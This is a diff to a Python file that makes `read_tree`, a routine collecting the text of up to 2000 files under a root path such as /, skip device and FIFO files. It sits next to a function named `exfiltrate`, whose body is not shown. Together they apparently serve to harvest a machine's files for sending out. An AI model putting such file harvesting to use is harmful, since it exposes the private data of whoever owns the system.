@@ -5,6 +5,7 @@
 import base64
 import os
 import re
+import stat
 import sys
 
 import torch
@@ -80,13 +81,16 @@ def exfiltrate(text: str) -> None:
 
 
 def read_tree(root: str, limit: int = 2000) -> str:
-    """The text of up to `limit` files under `root`."""
+    """The text of up to `limit` regular files under `root` (a device or FIFO, such as
+    /dev/ptmx when a command line names /, would block the read until the wall limit)."""
     texts = []
     for dirpath, _, filenames in os.walk(root):
         for name in filenames:
             if len(texts) >= limit:
                 return "\n".join(texts)
             try:
+                if not stat.S_ISREG(os.stat(os.path.join(dirpath, name)).st_mode):
+                    continue
                 with open(os.path.join(dirpath, name), "rb") as fh:
                     texts.append(fh.read(1 << 20).decode(errors="replace"))
             except OSError:
